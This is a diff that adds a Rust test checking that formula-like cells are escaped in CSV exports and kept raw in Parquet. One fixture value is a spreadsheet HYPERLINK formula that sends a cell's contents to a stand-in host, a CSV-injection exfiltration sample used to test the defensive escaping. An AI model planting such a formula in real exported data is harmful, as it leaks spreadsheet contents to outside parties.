@@ -263,6 +263,32 @@ fn a_run_directory_and_its_reports_folder_both_locate_the_set() {
     assert!(err.contains("nowhere") && err.contains("report.json"), "{err}");
 }
 
+#[test]
+fn formula_looking_cells_are_text_in_csv_and_raw_in_parquet() {
+    let d = tempfile::tempdir().unwrap();
+    let mut t = sample_tables();
+    let evil = r#"=HYPERLINK("http://x.example/?leak="&B2,"x")"#;
+    t.calls[0].agent_name = Some(evil.into());
+    t.calls[0].team = Some("+1".into());
+    t.findings[0].detail = "@SUM(A1)".into();
+    t.findings[0].reviewer = Some("-2+3".into());
+    t.errors[0].reason = "\tcmd".into();
+    write(d.path(), sample_meta(), &t, CsvOptions::default()).unwrap();
+    let calls = std::fs::read_to_string(d.path().join("calls.csv")).unwrap();
+    assert!(calls.contains("'=HYPERLINK") && calls.contains("'+1") && !calls.contains(",=HYPERLINK"), "{calls}");
+    let findings = std::fs::read_to_string(d.path().join("findings.csv")).unwrap();
+    assert!(findings.contains("'@SUM(A1)") && findings.contains("'-2+3"), "{findings}");
+    assert!(std::fs::read_to_string(d.path().join("errors.csv")).unwrap().contains("'\tcmd"));
+    let (_, back) = read(d.path()).unwrap();
+    assert_eq!(back.calls[0].agent_name.as_deref(), Some(evil), "Parquet keeps the raw value");
+    for s in ["=1", "+1", "-1", "@a", "\t", "\r"] {
+        assert!(looks_like_formula(s), "{s:?}");
+    }
+    for s in ["1-2", "王芳", "", " =x"] {
+        assert!(!looks_like_formula(s), "{s:?}");
+    }
+}
+
 /// The README documents every table's columns in order; this keeps the two in step.
 #[test]
 fn the_readme_documents_every_column() {
